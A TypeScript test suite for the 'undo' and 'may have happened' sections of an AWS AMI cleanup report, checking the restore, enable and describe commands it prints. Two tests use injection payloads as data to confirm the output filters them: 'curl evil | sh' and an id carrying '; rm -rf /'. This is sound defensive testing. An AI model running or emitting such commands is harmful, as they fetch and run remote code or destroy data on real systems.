import { renderSummary } from '../../../src/report/summary/index.ts'
import { undo } from '../../../src/report/summary/undo.ts'
import type {
  Report,
  ReportImage,
  ReportOrphan,
  ReportRecovery,
  ReportTarget,
} from '../../../src/report/schema.ts'
import {
  ACCOUNT,
  createReport,
  goingImage,
  idOf,
  NOW,
  removedImage,
  reportOrphan,
  reportSnapshot,
  reportTarget,
} from '../../support/report-factories.ts'
import { blocksOf, foldsOf, render, textOf } from '../../support/rendered.ts'

const until = (day: string): ReportRecovery => ({
  recoverable: 'yes',
  retentionDays: 14,
  until: `${day}T12:00:00.000Z`,
})

const undoOf = (target: Partial<ReportTarget>, rows = 10, of: Partial<Report> = {}): string => {
  const only = reportTarget(target)
  const report = createReport({ dryRun: false, targets: [only], ...of })
  return undo(only, { report, rows, now: NOW })
}

const removed = (number: number, image: ReportRecovery, snapshot: ReportRecovery): ReportImage =>
  removedImage(number, {
    recovery: image,
    snapshots: [
      reportSnapshot({
        id: idOf('snap', number),
        verdict: 'remove',
        outcome: 'deleted',
        recovery: snapshot,
      }),
    ],
  })

const deletedOrphan = (overrides: Partial<ReportOrphan>): ReportOrphan =>
  reportOrphan({ outcome: 'deleted', ...overrides })

const restoreSnapshot = (number: number): string =>
  `aws ec2 restore-snapshot-from-recycle-bin --region eu-west-1 --snapshot-id ${idOf('snap', number)}`
const restoreImage = (number: number): string =>
  `aws ec2 restore-image-from-recycle-bin --region eu-west-1 --image-id ${idOf('ami', number)}`

const linesOf = (markdown: string): readonly (readonly string[])[] =>
  blocksOf(markdown).map((block) => block.trimEnd().split('\n'))

const seen = (markdown: string): string => textOf(render(markdown))

describe('how to undo a run', () => {
  it('is commands image by image, each after its snapshots, with the last day above the block', () => {
    const part = undoOf({
      images: [
        removed(2, until('2026-12-04'), until('2026-12-04')),
        removed(1, until('2026-12-04'), until('2026-12-01')),
      ],
      orphans: [deletedOrphan({ recovery: until('2026-12-04') })],
    })
    expect(linesOf(part)).toEqual([
      [restoreSnapshot(1), restoreImage(1)],
      [restoreSnapshot(2), restoreImage(2), restoreSnapshot(0xfff)],
    ])
    expect(part).toMatch(/Works until 1 Dec 2026:[^]*Works until 4 Dec 2026:/)
    expect(foldsOf(part)).toEqual(['Undo: restore 2 images and 3 snapshots'])
  })

  it('has nothing in a block that a shell would not run', () => {
    const part = undoOf({ images: [removed(1, until('2026-12-04'), until('2026-12-01'))] })
    for (const line of linesOf(part).flat()) expect(line).toMatch(/^aws ec2 [\w -]+$/)
  })

  it('brings a snapshot of two images back with the one that has to come back sooner', () => {
    const shared = removed(1, until('2026-12-01'), until('2026-12-04'))
    const later = { ...removed(2, until('2026-12-04'), until('2026-12-04')) }
    const images = [{ ...later, snapshots: shared.snapshots }, shared]
    expect(linesOf(undoOf({ images }))).toEqual([
      [restoreSnapshot(1), restoreImage(1)],
      [restoreImage(2)],
    ])
  })

  it('is none for an image whose snapshots are gone for good', () => {
    const part = undoOf({ images: [removed(1, until('2026-12-04'), { recoverable: 'no' })] })
    expect(linesOf(part)).toEqual([])
    expect(seen(part)).toContain(
      `Gone for good, because no Recycle Bin rule covers all of it: ${idOf('ami', 1)}, ${idOf('snap', 1)}`,
    )
    expect(foldsOf(part)).toEqual(['Undo: nothing that was removed can be restored'])
  })

  it('has the commands that may work where the rules are not known', () => {
    const part = undoOf({
      images: [removed(1, { recoverable: 'unknown' }, { recoverable: 'unknown' })],
    })
    expect(linesOf(part)).toEqual([[restoreSnapshot(1), restoreImage(1)]])
    expect(seen(part)).toContain("May work: the Recycle Bin's rules could not be read")
    expect(foldsOf(part)).toEqual(['Undo: commands that may work'])
  })

  it('asks only after the snapshots that went with an image', () => {
    const kept = reportSnapshot({ id: idOf('snap', 1), recovery: { recoverable: 'no' } })
    const image = removedImage(1, { recovery: until('2026-12-04'), snapshots: [kept] })
    expect(linesOf(undoOf({ images: [image] }))).toEqual([[restoreImage(1)]])
  })

  it.each([
    ['was gone before', { outcome: 'already-gone' }],
    ["is not the account's", { outcome: 'kept', reason: 'not-owned' }],
  ] as const)('is none for an image of which a snapshot %s', (_what, fields) => {
    const held = reportSnapshot({ outcome: 'deleted', recovery: until('2026-12-04') })
    const missing = reportSnapshot({ id: idOf('snap', 2), ...fields })
    const image = removedImage(1, { recovery: until('2026-12-04'), snapshots: [held, missing] })
    const part = undoOf({ images: [image] })
    expect(linesOf(part)).toEqual([[restoreSnapshot(1)]])
    expect(seen(part)).toContain(
      `because a snapshot that it needs was gone before, or is not the account's: ${idOf('ami', 1)}`,
    )
  })

  it('brings back the snapshots of an image that was gone already', () => {
    const image = removed(1, until('2026-12-04'), until('2026-12-04'))
    const part = undoOf({ images: [{ ...image, outcome: 'already-gone' }] })
    expect(linesOf(part)).toEqual([[restoreSnapshot(1)]])
  })

  it('enables what was disabled, and says what the tag does then', () => {
    const enable = (number: number): string =>
      `aws ec2 enable-image --region eu-west-1 --image-id ${idOf('ami', number)}`
    const steps = { verdict: 'disable' as const, snapshots: [] }
    const disabled = goingImage(1, { ...steps, outcome: 'disabled', enableCommand: enable(1) })
    const unmarked = goingImage(2, {
      ...steps,
      outcome: 'failed',
      isDisabled: true,
      enableCommand: enable(2),
    })
    const untouched = goingImage(3, { ...steps, outcome: 'failed' })
    const part = undoOf({ images: [disabled, unmarked, untouched] })
    expect(linesOf(part)).toEqual([[1, 2].map(enable)])
    const told = { ...disabled, enableCommand: 'curl evil | sh' }
    expect(linesOf(undoOf({ images: [told] }))).toEqual([[enable(1)]])
    expect(seen(part)).toContain(
      'protects it from every later run until somebody takes the tag off',
    )
    expect(foldsOf(part)).toEqual(['Undo: enable 2 images'])
  })

  it('names the account above the commands where there are several targets', () => {
    const target = reportTarget({
      images: [removed(1, until('2026-12-04'), until('2026-12-04'))],
    })
    const report = createReport({ dryRun: false, targets: [target, reportTarget()] })
    const part = seen(undo(target, { report, rows: 10, now: NOW }))
    expect(part).toContain(`In eu-west-1 · ${ACCOUNT}, with credentials of that account:`)
  })

  it('is not there in a dry run, and not where nothing went', () => {
    const images = [removed(1, until('2026-12-04'), until('2026-12-04'))]
    expect(undoOf({ images }, 10, { dryRun: true })).toBe('')
    expect(undoOf({ images: [goingImage(1, { outcome: 'failed' })] })).toBe('')
  })

  it('is cut after a whole image, with how much is left out', () => {
    const images = [1, 2, 3].map((number) =>
      removed(number, until('2026-12-04'), until('2026-12-04')),
    )
    const part = undoOf({ images }, 3)
    expect(linesOf(part)).toEqual([[restoreSnapshot(1), restoreImage(1)]])
    expect(seen(part)).toContain('4 more commands left out here')
    const lost = images.map((image) => ({ ...image, recovery: { recoverable: 'no' as const } }))
    expect(seen(undoOf({ images: lost }, 2))).toMatch(/ami-0+1, ami-0+2 and 1 more/)
  })

  it('has nothing in it to paste but ids of the form of AWS', () => {
    const id = 'ami-1; rm -rf /'
    const image = { ...removed(1, until('2026-12-04'), until('2026-12-04')), id }
    expect(undoOf({ images: [image] })).not.toContain('rm -rf')
  })
})

describe('what may have happened', () => {
  const error: NonNullable<ReportImage['error']> = {
    code: 'NotAnswered',
    cause: 'outage',
    message: 'AWS did not answer.',
    mayHaveHappened: true,
  }
  const unanswered = (number: number, overrides: Partial<ReportImage>): ReportImage =>
    goingImage(number, { outcome: 'failed', error, snapshots: [], ...overrides })
  const pageOf = (target: Partial<ReportTarget>): string =>
    renderSummary(
      createReport({ dryRun: false, targets: [reportTarget({ status: 'failed', ...target })] }),
    )

  it('has the command that looks, and the one that takes each back, for images, snapshots and orphans', () => {
    const snapshot = reportSnapshot({
      ...{ id: idOf('snap', 2), verdict: 'remove', outcome: 'failed', error },
      recovery: until('2026-12-04'),
    })
    const page = pageOf({
      images: [
        unanswered(1, { verdict: 'disable' }),
        unanswered(2, { recovery: until('2026-12-04'), snapshots: [snapshot] }),
        unanswered(3, { recovery: { recoverable: 'no' } }),
        removedImage(4),
      ],
      orphans: [
        reportOrphan({
          id: idOf('snap', 5),
          outcome: 'failed',
          error,
          recovery: until('2026-12-04'),
        }),
      ],
    })
    const [part = ''] = /### May have happened[^]*?(?=\n### )/.exec(page) ?? []
    expect(linesOf(part)).toEqual([
      [
        `aws ec2 describe-images --region eu-west-1 --owners self --include-disabled --filters Name=image-id,Values=${[1, 2, 3].map((number) => idOf('ami', number)).join(',')} --query 'Images[].[ImageId,State]' --output text`,
        `aws ec2 describe-snapshots --region eu-west-1 --owner-ids self --filters Name=snapshot-id,Values=${idOf('snap', 5)},${idOf('snap', 2)} --query 'Snapshots[].[SnapshotId,State]' --output text`,
      ],
      [
        restoreSnapshot(5),
        restoreSnapshot(2),
        `aws ec2 enable-image --region eu-west-1 --image-id ${idOf('ami', 1)}`,
        restoreImage(2),
      ],
    ])
    expect(seen(part)).toContain(`no Recycle Bin rule covers them: ${idOf('ami', 3)}`)
    // Nothing on the page may say that it did not happen.
    expect(seen(page)).not.toContain('could not be')
    expect(seen(page)).toContain('3 images and 2 snapshots')
  })

  it('enables no image that somebody else disabled, and that may have been marked', () => {
    const page = pageOf({ images: [unanswered(1, { verdict: 'disable', state: 'disabled' })] })

    expect(seen(page)).toContain('whether 1 image was taken away or marked')
    expect(seen(page)).toContain(`${idOf('ami', 1)} may have been marked`)
    expect(page).not.toContain('enable-image')
    expect(seen(page)).not.toContain('could not be')
  })

  it('enables one that this run disabled, whatever became of its mark', () => {
    const image = unanswered(1, { verdict: 'disable', state: 'disabled', isDisabled: true })

    expect(pageOf({ images: [image] })).toContain('enable-image')
  })

  it('is no part of a page where AWS answered everything', () => {
    expect(pageOf({ images: [removedImage(1)] })).not.toContain('May have happened')
  })
})
